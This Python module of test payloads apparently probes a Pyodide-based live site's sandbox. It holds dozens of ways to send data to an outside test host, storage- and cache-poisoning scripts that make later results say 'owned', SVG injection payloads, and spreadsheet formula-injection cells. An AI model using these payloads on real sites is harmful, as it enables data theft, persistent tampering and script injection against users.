"""Lines that try to leave the Python of the live site, to stay there, or to run where a result is opened."""

from __future__ import annotations

import textwrap

PRELUDE = """\
import asyncio
import js
import pandas as pd
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js

ended = []

def real_fetch(*asked):
    return js.WorkerGlobalScope.prototype.fetch.call(js.self, *asked)

def tried(name, attack):
    try:
        made = attack(f"{THERE}/leak/{name}")
        if asyncio.iscoroutine(made):
            asyncio.ensure_future(made)
        ended.append((name, "called"))
    except BaseException as error:
        ended.append((name, f"{type(error).__name__}: {error}"[:150]))

def script(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))

def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)
"""

WAYS = {
    # Of the report.
    "fetch": "return real_fetch(url)",
    "cache-add": "return (await js.caches.open('x')).add(url)",
    "nested": "js.Worker.new(script(f'fetch({url!r})'))",
    "import": "js.eval(f'import({url!r})')",
    "font": "js.FontFace.new('x', f'url({url})').load()",
    # Of our own.
    "fetch-post": "real_fetch(url, options(method='POST', body='rows'))",
    "fetch-no-cors": "real_fetch(url, options(mode='no-cors', keepalive=True))",
    "fetch-name": "real_fetch(url.replace('127.0.0.1', 'localhost'))",
    "fetch-nested-global": "js.Worker.new(script(f'self.fetch({url!r}, {{credentials: \"include\"}})'))",
    "xhr": "asked = js.XMLHttpRequest.new(); asked.open('GET', url, False); asked.send()",
    "xhr-nested": "js.Worker.new(script(f'x = new XMLHttpRequest(); x.open(\"PUT\", {url!r}); x.send()'))",
    "websocket": "js.WebSocket.new(url.replace('http', 'ws', 1))",
    "websocket-nested": 'js.Worker.new(script(f\'new WebSocket({url!r}.replace("http", "ws"))\'))',
    "events": "js.EventSource.new(url)",
    "events-nested": "js.Worker.new(script(f'new EventSource({url!r})'))",
    "webtransport": "js.WebTransport.new(url.replace('http', 'https', 1))",
    "webtransport-nested": 'js.Worker.new(script(f\'new WebTransport({url!r}.replace("http", "https"))\'))',
    "import-scripts": "js.importScripts(url)",
    "import-scripts-nested": "js.Worker.new(script(f'importScripts({url!r})'))",
    "import-nested": "js.Worker.new(script(f'import({url!r})'))",
    "import-module": "js.Worker.new(script(f'import {url!r};'), options(type='module'))",
    "import-blob": "js.Worker.new(script(f'import({script(f\"import({url!r})\")!r})'))",
    "worker": "js.Worker.new(url)",
    "worker-data": "js.Worker.new(f'data:text/javascript,fetch({url!r})')",
    "worker-shared": "js.SharedWorker.new(script(f'fetch({url!r})'))",
    "worker-twice": "js.Worker.new(script(f'new Worker({script(f\"fetch({url!r})\")!r})'))",
    "beacon": "js.navigator.sendBeacon(url, 'rows')",
    "function": "js.Function.new(f'import({url!r})')()",
    "timer": "js.setTimeout(f'import({url!r})', 0)",
    "run-js": "run_js(f'fetch({url!r})')",
    "package": "return pyodide_js.loadPackage(f'{url}/x-1.0-py3-none-any.whl')",
    "pyfetch": "from pyodide.http import pyfetch; return await pyfetch(url)",
    "open-url": "from pyodide.http import open_url; open_url(url)",
    "urllib": "import urllib.request; urllib.request.urlopen(url, timeout=1)",
    "socket": "import socket; at = js.URL.new(url); socket.create_connection((at.hostname, int(at.port)), 1)",
    "service-worker": "return js.navigator.serviceWorker.register(url)",
    "font-set": "js.self.fonts.add(js.FontFace.new('y', f'url({url})')); js.self.fonts.load('9px y')",
    "canvas-filter": (
        "drawn = js.OffscreenCanvas.new(9, 9).getContext('2d'); drawn.filter = f'url({url}#x)';"
        " drawn.fillRect(0, 0, 9, 9)"
    ),
    "peers": (
        "made = js.RTCPeerConnection.new(options(iceServers=[{'urls': f'stun:{js.URL.new(url).host}'}]));"
        " made.createDataChannel('x'); return made.createOffer().then(made.setLocalDescription)"
    ),
    "location": "js.self.location = url",
    "location-href": "js.self.location.href = url",
    "open": "js.self.clients.openWindow(url)",
    "stream": "return js.WebAssembly.compileStreaming(real_fetch(url))",
}
"""Ways to another host; `url` is an address there."""


def lines(name: str, way: str, there: str) -> str:
    """Lines that try a way to a host and show a table of how it began."""
    kind = "async def" if "await" in way else "def"
    attack = f"{kind} attack(url):\n{textwrap.indent(way, '    ')}\n"
    table = "pd.DataFrame(ended, columns=['way', 'ended'])"
    return f"THERE = {there!r}\n{PRELUDE}\n{attack}\ntried({name!r}, attack)\n{table}"


STORES = """\
import asyncio
import js
import pandas as pd
from pyodide.ffi import to_js

async def cache():
    kept = await js.caches.open("defects-at-work-live")
    for key in (await kept.keys()):
        await kept.put(key, js.Response.new("owned"))
    await kept.put("https://example.org/owned", js.Response.new("owned"))

async def base():
    js.indexedDB.open("owned", 1)

async def folder():
    await (await js.navigator.storage.getDirectory()).getFileHandle(
        "owned", to_js({"create": True}, dict_converter=js.Object.fromEntries))

async def channel():
    js.BroadcastChannel.new("owned").postMessage("owned")

async def cookie():
    await js.cookieStore.set("owned", "owned")

for store in (cache, base, folder, channel, cookie):
    asyncio.ensure_future(store())
pd.DataFrame({"done": ["yes"]})
"""
"""Lines that leave something in every storage that pages of a site share."""

OWNING = """
def run(*given):
    return {'outputs': [{'kind': 'value', 'text': 'owned'}]}
"""
"""What makes every result `owned`, at the end of what runs lines."""

OWNED = """\
import asyncio, io, js, zipfile
import pandas as pd
from pyodide.ffi import to_js

async def poison():
    kept = await js.caches.open("defects-at-work-live")
    for key in (await kept.keys()):
        if "/reviewhelpers-" in key.url:
            whole = zipfile.ZipFile(io.BytesIO((await (await kept.match(key)).arrayBuffer()).to_bytes()))
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
                for name in whole.namelist():
                    content = whole.read(name)
                    if name.endswith("live/execution.py"):
                        content += OWNING.encode()
                    out.writestr(name, content)
            await kept.put(key, js.Response.new(to_js(made.getvalue())))

asyncio.ensure_future(poison())
pd.DataFrame({"done": ["yes"]})
""".replace("OWNING", repr(OWNING))
"""Lines after which every later Python of the site says `owned`, if they can write into the cache."""

TRAP = """\
import pandas as pd
from reviewhelpers.validation import user_data

def trap(*given):
    raise RuntimeError("trapped")

user_data.with_user_rows = user_data.read = trap
pd.DataFrame({"a": [1]})
"""
"""Lines that wait in Python for the rows of a reader."""

GIVING = """\
from reviewhelpers import figures

save = figures.save = getattr(figures, "real_save", figures.save)
figures.real_save = save
plot = figures.make("fig-co2rr-efficiency")
published = save("fig-co2rr-efficiency", plot, "svg").decode()
figures.save = lambda *given: {made}.encode()
plot
"""
"""Lines whose picture is another than that of their plot."""


def giving(change: str) -> str:
    """Lines that give a published picture after a change, an expression of Python."""
    return GIVING.replace("{made}", f"({change})")


TABLE = """\
import pandas as pd
from reviewhelpers import tables

tables.real_save = getattr(tables, "real_save", tables.save)
tables.save = lambda *given: {text!r}
pd.DataFrame({{"a": [1]}})
"""


def table(text: str) -> str:
    """Lines that give a table whose CSV is this text."""
    return TABLE.format(text=text)


RESTORED = """\
import pandas as pd
from reviewhelpers import figures, tables

for module in (figures, tables):
    module.save = getattr(module, "real_save", module.save)
pd.DataFrame({"a": [1]})
"""
"""Lines that take these changes back."""

PICTURES = {
    "script": """published.replace("</svg>", "<script>fetch('{there}')</script></svg>")""",
    "script elsewhere": """published.replace("</svg>", "<script href='{there}'/></svg>")""",
    "handler": """published.replace("<svg ", "<svg onload='fetch(`{there}`)' ", 1)""",
    "picture elsewhere": (
        """published.replace("</svg>", "<image href='{there}' width='9' height='9'/></svg>")"""
    ),
    "old picture elsewhere": (
        """published.replace("</svg>", "<image xlink:href='{there}' width='9' height='9'/></svg>")"""
    ),
    "part elsewhere": """published.replace("</svg>", "<use href='{there}#x'/></svg>")""",
    "picture of a picture": (
        """published.replace("</svg>", "<image href='data:image/svg+xml,x' width='9' height='9'/></svg>")"""
    ),
    "page": (
        """published.replace("</svg>", "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' """
        """src='{there}'/></foreignObject></svg>")"""
    ),
    "refresh": (
        """published.replace("</svg>", "<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' """
        """content='0;url={there}'/></svg>")"""
    ),
    "link": """published.replace("</svg>", "<a href='{there}'><rect width='999' height='999'/></a></svg>")""",
    "animation": (
        """published.replace("</svg>", "<use><set attributeName='href' to='{there}'/></use></svg>")"""
    ),
    "style": """published.replace("stroke-linejoin: round", "background: url({there})")""",
    "style elsewhere": """published.replace("*{", "@import '{there}'; *{")""",
    "style in disguise": """published.replace("stroke-linejoin: round", "background: u\\\\72l({there})")""",
    "style of a part": """published.replace("</svg>", "<rect style='fill: url({there}#x)'/></svg>")""",
    "paint": """published.replace("</svg>", "<rect fill='url({there}#x)'/></svg>")""",
    "paint in disguise": """published.replace("</svg>", "<rect fill='u\\\\72l({there}#x)'/></svg>")""",
    "sheet": """published.replace("<svg ", "<?xml-stylesheet href='{there}'?><svg ", 1)""",
    "base": """published.replace("<svg ", "<svg xml:base='{there}' ", 1)""",
    "entity": (
        """published.replace("svg11.dtd\\">", "svg11.dtd\\" [<!ENTITY x SYSTEM '{there}'>]>")"""
        """.replace("</title>", "&x;</title>")"""
    ),
    "type": """published.replace("http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd", "{there}")""",
    "no picture": """'<html xmlns="http://www.w3.org/1999/xhtml"><script src="{there}"/></html>'""",
    "broken": """published[:-9]""",
}
"""Pictures that load, run or lead away, as changes of a published one."""

CELLS = ("=HYPERLINK(1)", "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", '-2+3+cmd|"x"', "=1", "-5+A1")
"""Texts that a spreadsheet runs."""
